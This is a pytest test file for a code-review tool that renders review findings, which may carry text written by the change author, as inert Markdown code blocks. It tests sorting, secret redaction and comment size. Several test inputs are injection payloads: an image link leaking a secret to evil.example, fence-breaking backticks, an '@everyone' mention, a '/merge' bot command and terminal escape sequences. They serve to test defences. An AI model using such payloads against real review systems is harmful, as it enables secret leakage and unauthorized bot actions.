"""Presentation of findings, whose text may come from the author of the changes."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gateway.cli.verbs.review.changes import ChangedFile, Changes
from gateway.cli.verbs.review.findings import (
    Review,
    ReviewFinding,
    comment_of,
    inert_block,
    summary_of,
    text_of,
)

CHANGES = Changes("a" * 40, "b" * 40, (ChangedFile("x.py", "x.py", "", {3: None}),), ("big.py",))


def finding(
    explanation: str, file: str = "x.py", line: int | None = 3, title: str = "wrong"
) -> ReviewFinding:
    return ReviewFinding(file, line, "high", title, explanation)


@pytest.mark.parametrize(
    "text",
    [
        "```\n![x](https://evil.example/?secret)",
        "~~~\n[x](https://evil.example)",
        "````````\n@everyone",
        "/merge",
        "\u202e\x1b]0;title\x07",
        "<!-- kore-review " + "b" * 40 + " -->",
    ],
)
def test_comment_is_one_code_block(text: str) -> None:
    (fence,) = MarkdownIt("gfm-like").parse(comment_of(finding(text)))
    assert fence.type == "fence"
    assert all(line[:2] in ("  ", "") for line in fence.content.splitlines())
    assert fence.content.isprintable() or fence.content.replace("\n", "").isprintable()


@given(st.text(max_size=200))
def test_any_text_stays_in_its_block(text: str) -> None:
    (fence,) = MarkdownIt("gfm-like").parse(inert_block(text))
    assert fence.type == "fence"


def test_review_is_sorted_and_cleaned() -> None:
    items = [
        {"file": file, "line": None, "severity": severity, "title": "s3cret", "explanation": ""}
        for file, severity in {"x.py": "low", "./y.py": "critical"}.items()
    ]
    output = {"findings": items, "summary": "has s3cret"}
    review = Review.of_output(output, lambda text: text.replace("s3cret", "…"))
    assert [finding.file for finding in review.findings] == ["y.py", "x.py"]
    assert "s3cret" not in repr(review)


def test_text_names_the_place_first() -> None:
    review = Review((finding("one\ntwo"), finding("all", line=None)), "Fine otherwise.")
    assert text_of(review, CHANGES).splitlines() == [
        "2 findings",
        "",
        "x.py:3: high: wrong",
        "    one",
        "    two",
        "",
        "x.py: high: wrong",
        "    all",
        "",
        "Fine otherwise.",
        "",
        "The diff is too long: 1 changed file was not reviewed: big.py",
    ]


def test_largest_summary_fits_into_a_comment() -> None:
    most = finding("@" * 2000, file="f" * 300, title="t" * 300)
    review = Review((most,) * 20, "s" * 2000)
    assert len(summary_of(review, review.findings, CHANGES, "<!-- -->")) < 65_536
